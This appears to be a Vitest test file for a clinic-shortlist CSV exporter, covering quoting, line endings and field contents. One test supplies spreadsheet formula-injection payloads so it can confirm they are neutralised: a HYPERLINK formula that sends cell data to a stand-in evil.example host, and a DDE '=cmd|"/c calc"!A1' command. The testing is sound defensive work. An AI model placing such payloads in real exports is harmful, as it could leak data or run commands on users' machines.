import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Papa from 'papaparse';
import { BOM, CSV_COLUMNS, OTHER_ANSWERS_COLUMN, csvCell, csvColumnLabel, toCsv } from '../../../lib/export/csv';
import { CUSTOM_ITEM_FIELDS, GENERAL, exportInput, makeItem, makeList } from './fixtures';
import { text } from './arbitraries';

/** Reads a CSV back the way a strict RFC 4180 reader would. */
function read(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(BOM.length), { delimiter: ',', newline: '\r\n', quoteChar: '"', skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  const rows = parsed.data;
  expect(rows.at(-1)).toEqual(['']); // the file ends with CRLF
  return rows.slice(0, -1);
}

const col = (header: readonly string[], name: string) => {
  const i = header.indexOf(name);
  expect(i).toBeGreaterThanOrEqual(0);
  return i;
};

const FORMULA = /^\s*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
/** What a cell holding `s` reads as: the same text, or with a leading ' when it could run as a formula. */
const expected = (s: string) => {
  const inner = s.replace(/([,;\t\r\n])( *)(?=[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/g, "$1'$2");
  return FORMULA.test(s) ? `'${inner}` : inner;
};

describe('toCsv', () => {
  const shortlists = [makeList({ id: 'l1', name: 'Denver, "north"' }), makeList({ id: 'l2', name: 'Second' })];
  const items = [
    makeItem({
      id: 'a',
      shortlistId: 'l1',
      position: 2,
      status: 'contacted',
      notes: 'Line one, with comma\r\nLine "two"\nLine three\rend',
      quote: { consultation: 200, perSession: 450.5, note: 'by phone' },
      answers: { 'who-monitors': { done: true, text: 'A nurse' }, 'retired-question': { done: false, text: 'kept' } },
    }),
    makeItem({ id: 'b', shortlistId: 'l1', position: 1, providerId: 'closedco', snapshot: { name: 'Closed Co', website: null } }),
    makeItem({ id: 'c', shortlistId: 'l2', ...CUSTOM_ITEM_FIELDS }),
    makeItem({ id: 'd', shortlistId: 'not-exported' }),
  ];
  const csv = toCsv(exportInput({ shortlists, items, itemExtras: (i) => (i.id === 'a' ? { costEstimate: '$2,400–$3,000' } : undefined) }));
  const rows = read(csv);
  const [header, ...body] = rows as [string[], ...string[][]];
  const cell = (row: string[], name: string) => row[col(header, name)];

  it('has a header row with the estimate caveat, one column per checklist question, and one row per item in order', () => {
    expect(header).toEqual([...CSV_COLUMNS, ...GENERAL.questions.map((q) => q.text), OTHER_ANSWERS_COLUMN]);
    expect(header.filter((h) => h.includes('estimate — confirm with the clinic'))).toHaveLength(4);
    expect(body.map((r) => cell(r, 'Clinic'))).toEqual(['Closed Co', 'Mindbloom', 'Dr. Lee, Ketamine & Co']);
    expect(body.every((r) => r.length === header.length)).toBe(true);
  });

  it('uses CRLF between records and keeps newlines, quotes and commas inside fields', () => {
    expect(csv.replace(/"(?:[^"]|"")*"/g, '').split('\r\n').every((line) => !/[\r\n]/.test(line))).toBe(true);
    const mindbloom = body[1]!;
    expect(cell(mindbloom, 'Notes')).toBe('Line one, with comma\r\nLine "two"\nLine three\rend');
    expect(cell(mindbloom, 'List')).toBe('Denver, "north"');
    expect(csv).toContain('"Denver, ""north"""');
  });

  it('writes the dataset facts, marking unconfirmed locations and status', () => {
    const [closed, mindbloom, custom] = body as [string[], string[], string[]];
    expect(cell(closed, 'Clinic status')).toBe('Closed since 2023-03-10. The company shut down all clinics.');
    expect(cell(mindbloom, 'Clinic status')).toBe('Operating');
    expect(cell(custom, 'Clinic status')).toBe('Your own entry');
    expect(cell(mindbloom, 'Locations')).toBe('Denver, CO; Austin, TX (location not confirmed)');
    expect(cell(custom, 'Locations')).toBe('Boulder, CO');
    expect(cell(mindbloom, 'Treatments')).toBe('Oral / sublingual');
    expect(cell(mindbloom, 'Delivery')).toBe('At home');
    expect(cell(mindbloom, csvColumnLabel('consultationPrice'))).toBe('Consultation: $150–$250 (as of 2025-01)');
    expect(cell(mindbloom, csvColumnLabel('perSessionPrice'))).toBe('IV infusion: $400–$500; IM injection: $300 (third-party figure)');
    expect(cell(mindbloom, 'Insurance')).toBe('Some services or plans (Aetna, Cigna); superbill: yes; Medicare: no; Medicaid: unknown');
    expect(cell(mindbloom, 'Financing')).toBe('HSA/FSA: unknown; CareCredit: yes; payment plans: yes');
    expect(cell(mindbloom, 'Sources')).toBe('https://mindbloom.example.com/ https://mindbloom.example.com/pricing');
    expect(cell(mindbloom, 'Website')).toBe('https://mindbloom.example.com/'); // the dataset's, never the snapshot's
  });

  it("writes the user's status, quote, cost estimate, notes and answers", () => {
    const mindbloom = body[1]!;
    expect(cell(mindbloom, 'Your status')).toBe('Contacted');
    expect(cell(mindbloom, 'Quoted consultation ($)')).toBe('200');
    expect(cell(mindbloom, 'Quoted per session ($)')).toBe('450.5');
    expect(cell(mindbloom, 'Quote note')).toBe('by phone');
    expect(cell(mindbloom, csvColumnLabel('costEstimate'))).toBe('$2,400–$3,000');
    expect(cell(mindbloom, GENERAL.questions[0]!.text)).toBe('Done — A nurse');
    expect(cell(mindbloom, GENERAL.questions[1]!.text)).toBe('');
    expect(cell(mindbloom, OTHER_ANSWERS_COLUMN)).toBe('retired-question: kept');
  });

  it('neutralises formula payloads in every user field', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '-2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1', ' =1', '\uFF1D1+1'];
    const evil = payloads.map((p, i) =>
      makeItem({ id: `e${i}`, shortlistId: 'l1', position: i, notes: p, quote: { consultation: null, perSession: null, note: p }, answers: { 'who-monitors': { done: false, text: p } } }),
    );
    const out = toCsv(exportInput({ shortlists: [makeList({ id: 'l1', name: '=cmd|"/c calc"!A1' })], items: evil }));
    const [h, ...r] = read(out) as [string[], ...string[][]];
    r.forEach((row, i) => {
      const p = payloads[i]!;
      expect(row[col(h, 'Notes')]).toBe(expected(p));
      expect(row[col(h, 'Quote note')]).toBe(expected(p));
      expect(row[col(h, GENERAL.questions[0]!.text)]).toBe(expected(p));
      expect(row[col(h, 'List')]).toBe(`'=cmd|"/c calc"!A1`);
    });
    expect(out).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(out).toContain(`"'+1"`);
    expect(out).toContain(`"'@SUM(A1:A9)"`);
    // Outside quoted fields, no field starts with a formula character.
    expect(out.replace(/"(?:[^"]|"")*"/g, '""')).not.toMatch(/(^|,)[=+\-@\t]/m);
  });

  it('quotes exactly when needed', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('-5')).toBe(`"'-5"`);
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(null)).toBe('');
  });

  it('quotes cells holding a semicolon or a tab, so spreadsheets splitting on ; or tab keep them whole', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    expect(csvCell('x;=1+1;')).toBe(`"x;'=1+1;"`);
    expect(csvCell('x\t@SUM(A1)')).toBe(`"x\t'@SUM(A1)"`);
    expect(csvCell('a, -2')).toBe(`"a,' -2"`);
  });

  it('no cell starts a formula whether the file is split on comma, semicolon or tab, quotes honoured or not', () => {
    const payload = 'x;=1+1;\t+2,@3; =4\n-5';
    const out = toCsv(exportInput({ shortlists: [makeList({ id: 'l', name: 'a;=HYPERLINK("x")' })], items: [makeItem({ id: 'i', shortlistId: 'l', notes: payload })] }));
    const body = out.slice(BOM.length);
    for (const delimiter of [',', ';', '\t']) {
      // A reader that honours quotes: the note is one cell, neutralised at its start only if needed.
      const quoted = Papa.parse<string[]>(body, { delimiter, quoteChar: '"', newline: '\r\n' }).data.flat();
      // A reader with the text qualifier off: every piece between separators is a cell.
      const raw = body.split(/\r\n|\r|\n/).flatMap((line) => line.split(delimiter));
      for (const cell of [...quoted, ...raw]) expect(cell.replace(/^"/, '')).not.toMatch(/^ *[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
    const [h, row] = read(out) as [string[], string[]];
    expect(row[col(h, 'Notes')]).toBe(expected(payload));
  });

  it('reads back arbitrary list names and notes (neutralised when formula-like)', () => {
    fc.assert(
      fc.property(text(200).map((s) => s.trim()).filter((s) => s.length > 0), text(2000), (name, notes) => {
        const out = toCsv(exportInput({ shortlists: [makeList({ id: 'l', name })], items: [makeItem({ id: 'i', shortlistId: 'l', notes })] }));
        const [h, row] = read(out) as [string[], string[]];
        expect(row[col(h, 'List')]).toBe(expected(name));
        expect(row[col(h, 'Notes')]).toBe(expected(notes));
      }),
      { numRuns: 200 },
    );
  });

  it('writes only a header for no items, and a single column for answers when there is no checklist', () => {
    const empty = read(toCsv(exportInput({ shortlists: [], items: [] })));
    expect(empty).toHaveLength(1);
    const noGeneral = read(toCsv(exportInput({ shortlists: [makeList({ id: 'l' })], items: [makeItem({ id: 'i', shortlistId: 'l', answers: { q: { done: true, text: '' } } })], general: null })));
    expect(noGeneral[0]!.at(-1)).toBe(OTHER_ANSWERS_COLUMN);
    expect(noGeneral[1]!.at(-1)).toBe('q: Done');
  });
});

describe('CSV_COLUMN_SPEC', () => {
  it('gives every fixed column a unique id and label, in header order', async () => {
    const { CSV_COLUMN_SPEC } = await import('../../../lib/export/csv');
    expect(new Set(CSV_COLUMN_SPEC.map((c) => c.id)).size).toBe(CSV_COLUMN_SPEC.length);
    expect(new Set(CSV_COLUMNS).size).toBe(CSV_COLUMNS.length);
    expect(CSV_COLUMN_SPEC.map((c) => c.label)).toEqual(CSV_COLUMNS);
    expect(csvColumnLabel('notes')).toBe('Notes');
  });
});
